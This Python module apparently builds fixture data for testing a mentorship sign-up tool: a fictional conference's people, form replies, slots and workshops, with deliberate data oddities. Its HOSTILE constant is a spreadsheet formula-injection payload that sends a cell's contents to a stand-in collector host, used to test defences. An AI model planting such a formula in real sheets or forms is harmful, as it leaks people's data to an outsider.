"""The cast: a made-up conference with the shape of a real one, always the same for the same seed and number.

Of the people in the programme about 45 % sign up as mentors, 20 % come virtually, 25 % have not answered
the form. Among them are colleagues, somebody in both roles, somebody who answered twice, hand-typed names,
contradictions between sign-up and form, a hostile answer, and addresses with odd capitals and blanks.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from random import Random

from mentorship_gsheets.rehearsal import cast_words as words
from mentorship_gsheets.rehearsal.cast_form import ATTENDANCE, CLOCKS, FIELDS, ROLES

SIGN_UP_HEADER = ("Name", "Email", "Ticket", "Mentorship programme?")
OPENED = datetime(2026, 6, 8, 9, 0, tzinfo=UTC)
"""When the form went out."""

HOSTILE = '=IMPORTXML("https://collector.example.net/?who="&B2, "//a")'


@dataclass(frozen=True, slots=True)
class Person:
    """One person of the conference. ``answers`` maps the form's columns (see :data:`cast_form.QUESTIONS`) to the
    texts given.
    """

    name: str
    email: str
    ticket: str
    sign_up: str
    answers: Mapping[str, tuple[str, ...]]
    answered: bool
    listed: bool = True


@dataclass(frozen=True, slots=True)
class Reply:
    """One submission of the form."""

    id: str
    email: str
    created: datetime
    submitted: datetime
    answers: Mapping[str, tuple[str, ...]]


@dataclass(frozen=True, slots=True)
class Cast:
    """Everybody, the rows of the sign-up export under :data:`SIGN_UP_HEADER`, and the submissions by time."""

    people: tuple[Person, ...]
    sign_ups: tuple[tuple[str, str, str, str], ...]
    replies: tuple[Reply, ...]


def cast(number: int = 150, seed: int = 2026, mentors: tuple[int, int] = (9, 20)) -> Cast:
    """Make up a conference with a few people besides who said no.

    Parameters
    ----------
    number
        How many are in the programme, at least 20.
    seed
        The same seed makes the same people.
    mentors
        So many, in so many, come as mentors.

    Returns
    -------
    Cast
        The people, the rows of the sign-up export in random order, and the answers to the form.

    Raises
    ------
    ValueError
        Fewer than 20 people.
    """
    if number < 20:
        raise ValueError("a cast needs at least 20 people")
    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
    people = _with_oddities([_person(random, place, number, mentors) for place in range(number)], random)
    replies = _replies(people, random)
    bystanders = [_bystander(random, place) for place in range(max(3, number // 12))]
    rows = [_sign_up(random, person) for person in people if person.listed]
    rows += [(person.name, person.email, person.ticket, "No") for person in bystanders]
    random.shuffle(rows)
    return Cast(tuple(people), tuple(rows), tuple(replies))


def with_tasks(everybody: Cast, seed: int = 2026) -> Cast:
    """Make the same conference, whose form asked besides which tasks somebody wants, and in how many cohorts at once.

    Parameters
    ----------
    everybody
        The conference without those questions; it is left as it is.
    seed
        The same seed gives the same wishes.

    Returns
    -------
    Cast
        The conference, with three more answers in each reply.
    """
    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
    weights = [1 / (1 + place / 4) for place in range(len(words.TASKS))]
    wants: dict[str, dict[str, tuple[str, ...]]] = {}
    for person in everybody.people:
        mentor = person.answers.get("role", ("",))[0] == ROLES[0]
        chosen = set(random.choices(words.TASKS, weights, k=random.randint(2, 5) if mentor else random.randint(1, 4)))
        wants[person.email.strip().lower()] = {
            "tasks": tuple(task for task in words.TASKS if task in chosen),
            "at_once": ("2",) if random.random() < 0.1 else ("1",),
            "time_zone": (random.choice(words.WIDE_ZONES),),
        }
    replies = tuple(
        replace(reply, answers={**reply.answers, **wants[reply.email.strip().lower()]}) for reply in everybody.replies
    )
    return replace(everybody, replies=replies)


def with_interests(everybody: Cast, seed: int = 2026) -> Cast:
    """The same people as a community: what kind of mentoring, in which area, how they like to meet, and what for.

    Parameters
    ----------
    everybody
        The people.
    seed
        Of the choices: the same one gives the same answers.

    Returns
    -------
    The people with answers to these questions.
    """
    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
    wants: dict[str, dict[str, tuple[str, ...]]] = {}
    for person in everybody.people:
        goal = random.choice(words.GOALS)
        wants[person.email.strip().lower()] = {
            "kind": tuple(kind for kind in words.KINDS if random.random() < 0.6) or words.KINDS[:1],
            "area": (random.choice(words.AREAS),),
            "ways": tuple(way for way in words.WAYS if random.random() < 0.5) or words.WAYS[:1],
            "goal": (goal,) if goal else (),
            "consent": ("No" if random.random() < 0.03 else "Yes",),
            "time_zone": (random.choice(words.WIDE_ZONES),),
        }
    return _who_answer(everybody, wants)


def with_conferences(everybody: Cast, today: date, seed: int = 2026) -> Cast:
    """Make organizers of the same people: each mentee has a first conference ahead, each mentor has had one.

    Parameters
    ----------
    everybody
        The people.
    today
        First conferences begin in the year after it.
    seed
        Of the choices: the same one gives the same answers.

    Returns
    -------
    Cast
        The people with answers to these questions.
    """
    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
    answers: dict[str, dict[str, tuple[str, ...]]] = {}
    for place, person in enumerate(everybody.people):
        mentor = person.answers.get("role", ("",))[0] == ROLES[0]
        begins = today + timedelta(days=random.randint(-900, -60) if mentor else random.randint(120, 350))
        goal = "" if mentor else random.choice(words.FIRST_GOALS)
        chosen = tuple(area for area in words.ORGANIZING if random.random() < 0.5) or words.ORGANIZING[:1]
        size = random.choice((60, 100, 150, 250, 400))
        answers[person.email.strip().lower()] = {
            "conference": (f"{words.CONFERENCES[place % len(words.CONFERENCES)]}Conf {words.TOWNS[place % 12][0]}",),
            # what no form is spared: a month without a day
            "begins": ("sometime next autumn",) if place == 3 else (str(begins),),
            "size": (f"about {size}",) if place % 5 == 2 else (str(size),),
            "knows" if mentor else "wants": chosen,
            "hours": (random.choice(("1", "2", "2", "3", "2-3")),),
            "goal": (goal,) if goal else (),
            "consent": ("Yes",),
            "time_zone": (random.choice(words.WIDE_ZONES),),
        }
    return _who_answer(everybody, answers)


def _who_answer(everybody: Cast, answers: Mapping[str, Mapping[str, tuple[str, ...]]]) -> Cast:
    """Return the people with these answers, by address, in place of those about a conference."""
    gone = {"attendance", "fields", "topics", "sector"}
    replies = tuple(
        replace(
            reply,
            answers={
                **{key: texts for key, texts in reply.answers.items() if key not in gone},
                **answers[reply.email.strip().lower()],
            },
        )
        for reply in everybody.replies
    )
    return replace(everybody, replies=replies)


SLOTS_HEADER = ("Slot", "Mentor", "Starts", "Time zone", "Minutes", "Where", "Seats", "State")
"""The headings under which an organizer of office hours keeps slots."""


@dataclass(frozen=True, slots=True)
class OfficeHours:
    """Office hours as they are after mentors have answered: the cast, whose form asked for times and slots; the
    rows of the slots there are under :data:`SLOTS_HEADER`; the days of the grid; what the dropdowns offer.
    """

    everybody: Cast
    slots: tuple[tuple[str, ...], ...]
    days: tuple[str, ...]
    labels: tuple[str, ...]


def with_slots(everybody: Cast, monday: date, seed: int = 2026) -> OfficeHours:
    """Let the mentors of a conference offer slots in one week, and times in the one after it.

    Parameters
    ----------
    everybody
        The conference without slots; it is left as it is.
    monday
        First day of the week of the slots.
    seed
        The same seed gives the same slots.

    Returns
    -------
    OfficeHours
        The people, their slots, and the answers to a form that asks for both.
    """
    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
    by_email = {reply.email.strip().lower(): reply for reply in everybody.replies}
    mentors = [email for email, reply in by_email.items() if reply.answers["role"] == (ROLES[0],)]
    slots: list[tuple[str, ...]] = []
    labels = []
    for place, email in enumerate(sorted(mentors)):
        name = " ".join(by_email[email].answers["name"][0].split())
        for number in sorted(random.sample(range(20), random.randint(2, 4))):
            day, clock = monday + timedelta(days=number // 4), CLOCKS[number % 4]
            key = f"S{len(slots) + 1:02}"
            seats = "4" if place % 9 == 4 else ""
            where = f"https://meet.example.org/{key.lower()}" if place % 3 else ""
            slots.append((key, email, f"{day} {clock}", "Europe/Berlin", "30", where, seats, ""))
            labels.append(f"{key} · {day:%a} {day.day} {day:%b} {clock} · {name}")
    slots = _with_odd_slots(slots, monday)
    days = tuple(f"{day.day} {day:%B %Y}" for day in (monday + timedelta(days=7 + number) for number in range(5)))
    replies = []
    for reply in everybody.replies:
        mentor = reply.email.strip().lower() in mentors
        said = _offers(random, len(days)) if mentor else _wishes(random, tuple(labels))
        replies.append(replace(reply, answers={**reply.answers, **said}))
    return OfficeHours(replace(everybody, replies=tuple(replies)), tuple(slots), days, tuple(labels))


EVENTS_HEADER = ("Event", "Series", "Starts", "Ends", "Time zone", "Where", "Leads", "Coaches needed", "Preparation")
"""The headings under which an organizer of workshops keeps events."""


@dataclass(frozen=True, slots=True)
class Workshops:
    """Workshops that look for coaches: the cast, whose form asked who would coach; the rows of the events under
    :data:`EVENTS_HEADER`; what the check boxes offer.
    """

    everybody: Cast
    events: tuple[tuple[str, ...], ...]
    labels: tuple[str, ...]


def with_workshops(everybody: Cast, monday: date, seed: int = 2026) -> Workshops:
    """Ask everybody at a conference to coach at workshops in the months to come.

    Parameters
    ----------
    everybody
        The conference without workshops; it is left as it is.
    monday
        The workshops are in the weeks from here.
    seed
        The same seed gives the same workshops.

    Returns
    -------
    Workshops
        The people, the workshops, and the answers to a form that asks for them.
    """
    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
    events: list[tuple[str, ...]] = []
    for place, (town, zone) in enumerate(words.TOWNS):
        day = monday + timedelta(days=7 * (place * 3 % 11) + 5)
        series = f"{zone.split('/')[0]} evenings" if place % 4 == 1 else ""
        clock = ("18:00", "21:00") if series else ("09:00", "17:00")
        seats = ("1", "2") if series else ("2" if place % 5 == 0 else "1", str(3 + place % 3))
        prepare = "3 hours: https://workshops.example.org/guide" if place % 2 else ""
        events.append(
            (f"{town}, {day:%B %Y}", series, f"{day} {clock[0]}", f"{day} {clock[1]}", zone, "", *seats, prepare)
        )
    events = _with_odd_events(events)
    labels = tuple(dict.fromkeys(row[1] or row[0] for row in events))
    replies = []
    for place, reply in enumerate(everybody.replies):
        chosen = set(random.sample(labels, min(len(labels), random.randint(1, 5))))
        said = {
            "events": tuple(label for label in labels if label in chosen),
            "seat": (random.choices(("As lead", "As coach", "Either"), (15, 60, 25))[0],),
            "season": (random.choice(("1", "1", "2", "3")),) if place % 7 else (),
            "coached": (random.choice(("0", "none", "two", "5", "")),),
        }
        replies.append(replace(reply, answers={**reply.answers, **said}))
    return Workshops(replace(everybody, replies=tuple(replies)), tuple(events), labels)


def _with_odd_events(events: list[tuple[str, ...]]) -> list[tuple[str, ...]]:
    """What no list of workshops is spared: one without a day, one that ends before it begins."""
    events[3] = (*events[3][:2], "some day in autumn", *events[3][3:])
    events[6] = (*events[6][:3], events[6][2].replace("09:00", "08:00"), *events[6][4:])
    return events


def _offers(random: Random, days: int) -> dict[str, tuple[str, ...]]:
    ticked = random.sample(range(days), 2)
    times: dict[str, tuple[str, ...]] = {f"offer{day}": (random.choice(CLOCKS),) for day in ticked}
    return {"sessions": (random.choice(("1", "1", "2")),), **times}


def _wishes(random: Random, labels: tuple[str, ...]) -> dict[str, tuple[str, ...]]:
    # the first slots of the list are picked most, as everywhere
    chosen = dict.fromkeys(
        labels[min(int(random.expovariate(3) * len(labels)), len(labels) - 1)] for _ in range(random.randint(1, 3))
    )
    picks: dict[str, tuple[str, ...]] = {f"pick{place}": (label,) for place, label in enumerate(chosen)}
    return picks | ({"ask": (random.choice(words.QUESTIONS),)} if random.random() < 0.7 else {})


def _with_odd_slots(slots: list[tuple[str, ...]], monday: date) -> list[tuple[str, ...]]:
    """What no list of slots is spared: one called off, one without a time, one that is past, one of a stranger."""
    slots[2] = (*slots[2][:7], "withdrawn")
    slots[5] = (*slots[5][:2], "Thursday afternoon", *slots[5][3:])
    slots[8] = (*slots[8][:2], f"{monday - timedelta(days=10)} 15:00", *slots[8][3:])
    slots[11] = (slots[11][0], "somebody@elsewhere.example.org", *slots[11][2:])
    return slots


def _person(random: Random, place: int, number: int, mentors: tuple[int, int]) -> Person:
    name, local = _name(random, place)
    # An institution sends a handful of people, however large the conference is.
    rounds = max(1, number // 90)
    choice = random.randrange(len(words.INSTITUTIONS) * rounds)
    affiliation, domain, sector = words.INSTITUTIONS[choice % len(words.INSTITUTIONS)]
    branch = choice // len(words.INSTITUTIONS)
    if branch:
        affiliation, domain = f"{affiliation}, campus {branch + 1}", f"campus{branch + 1}.{domain}"
    # Some write from home, where the address says nothing about the institution.
    home = random.random() < 0.3
    domain = f"home{place}.example.net" if home else random.choice(words.DEPARTMENTS) + domain
    # Exact shares rather than drawn ones: whoever reads the summary should find the numbers promised.
    mentor = place * mentors[0] % mentors[1] < mentors[0]
    virtual = place * 7 % 5 == 0
    answers = {
        "name": (name,),
        "role": (ROLES[0] if mentor else ROLES[1],),
        "attendance": (ATTENDANCE[virtual],),
        **_interests(random, mentor=mentor),
        "sector": ("Student" if not mentor and random.random() < 0.4 else sector,),
        "affiliation": (affiliation,),
        "time_zone": (random.choice(words.ZONES),),
        "capacity": (random.choices(("1", "2", "3"), (60, 28, 12))[0],) if mentor else (),
        "languages": _languages(random),
    }
    sign_up = "Yes, as a mentor" if mentor else "Yes, as a mentee"
    return Person(
        name, f"{local}@{domain}", "Virtual" if virtual else "In person", sign_up, answers, answered=place % 4 != 3
    )


def _name(random: Random, place: int) -> tuple[str, str]:
    """A name and the local part of an address, both unlike those of the other places."""
    if place % 15 == 7 and place // 15 < len(words.WHOLE):
        return words.WHOLE[place // 15]
    # Every pairing of the two lists comes up once before any comes again.
    total = len(words.GIVEN) * len(words.FAMILY)
    turn, rest = divmod(place * 1009 % total + total * (place // total), total)
    (given, first), (family, last) = words.GIVEN[rest % len(words.GIVEN)], words.FAMILY[rest // len(words.GIVEN)]
    style = random.choice((f"{first}.{last}", f"{first[0]}{last}{place}", f"{first}_{last}"))
    return (f"{given} {family}" + (f" {turn + 1}" if turn else "")), style + (str(turn) if turn else "")


def _interests(random: Random, *, mentor: bool) -> dict[str, tuple[str, ...]]:
    first = random.choices(range(len(words.BLOCKS)), words.SHARES)[0]
    main = random.choice(words.BLOCKS[first])
    fields = {main}
    for _ in range(random.choices((0, 1, 2, 3), (45, 30, 17, 8))[0]):
        block = first if random.random() < 0.5 else random.randrange(len(words.BLOCKS))
        fields.add(random.choice(words.BLOCKS[block]))
    ticked = [field for field in FIELDS if field in fields]
    if random.random() < 0.06:
        ticked.append(random.choice(words.OTHER_FIELDS))
    topics = random.sample(words.TOPICS, random.choice((1, 2, 2, 3)))
    note = random.choice(words.MENTOR_NOTES if mentor else words.MENTEE_NOTES).format(work=words.WORK[main])
    return {
        "fields": tuple(ticked),
        "topics": tuple(topic for topic in words.TOPICS if topic in topics),
        "notes": (note,) if note else (),
    }


def _languages(random: Random) -> tuple[str, ...]:
    extra = random.choice((None, None, *words.LANGUAGES[1:]))
    return ("English",) if extra is None else ("English", extra)


def _with_oddities(people: list[Person], random: Random) -> list[Person]:
    """What no conference is spared, on people at fixed places who have answered."""
    people[0] = _answering(people[0], role=(ROLES[2],))
    people[1] = _answering(people[1], notes=(HOSTILE,))
    people[2] = replace(people[2], email=_odd(people[2].email))
    # At the door they gave the name on the passport, in the form the one they go by.
    people[4] = _answering(people[4], name=(people[4].name.lower().replace(" ", "  "),))
    people[5] = _answering(people[5], name=(", ".join(reversed(people[5].name.upper().split(" ", 1))),))
    for place in (6, 13):
        opposite = ROLES[1] if people[place].answers["role"][0] == ROLES[0] else ROLES[0]
        people[place] = _answering(people[place], role=(opposite,), capacity=("1",) if opposite == ROLES[0] else ())
    # Somebody who ticked nothing, somebody without a capacity, somebody whose ticket changed.
    people[8] = _answering(people[8], fields=(), topics=())
    mentors = [place for place, person in enumerate(people) if person.answers["capacity"] and person.answered]
    people[mentors[-1]] = _answering(people[mentors[-1]], capacity=())
    people[9] = _answering(people[9], attendance=(ATTENDANCE[people[9].ticket == "In person"],))
    # Tickets bought after the export.
    late = random.choice([place for place in range(10, len(people)) if people[place].answered])
    people[late] = replace(people[late], listed=False)
    return people


def _answering(person: Person, **answers: tuple[str, ...]) -> Person:
    return replace(person, answered=True, answers={**person.answers, **answers})


def _odd(email: str) -> str:
    local, _, domain = email.partition("@")
    return f" {local.title()}@{domain.upper()}  "


def _sign_up(random: Random, person: Person) -> tuple[str, str, str, str]:
    email = person.email
    if random.random() < 0.05:
        email = email.title()
    return person.name, email, person.ticket, person.sign_up


def _bystander(random: Random, place: int) -> Person:
    name, local = _name(random, 1500 - place)
    return Person(
        name, f"{local}@guests.example.com", random.choice(("In person", "Virtual")), "No", {}, answered=False
    )


def _replies(people: list[Person], random: Random) -> list[Reply]:
    replies = [
        _reply(random, person.email, person.answers, random.random() * 12) for person in people if person.answered
    ]
    # Answered again, from a telephone that likes capitals: another capacity, one more field.
    twice = next(person for person in people[10:] if person.answered and person.answers["capacity"] == ("1",))
    again = {**twice.answers, "capacity": ("2",), "fields": (*twice.answers["fields"], "Citizen science")}
    replies.append(_reply(random, twice.email.capitalize(), again, 13))
    return sorted(replies, key=lambda reply: reply.submitted)


def _reply(random: Random, email: str, answers: Mapping[str, tuple[str, ...]], days: float) -> Reply:
    moment = OPENED + timedelta(days=days)
    # Some came back to change their answer: same response, later time.
    edited = moment + timedelta(hours=5) if random.random() < 0.04 else moment
    id = "ACYD" + random.randbytes(24).hex()
    return Reply(id, email.strip(), moment, edited, answers)
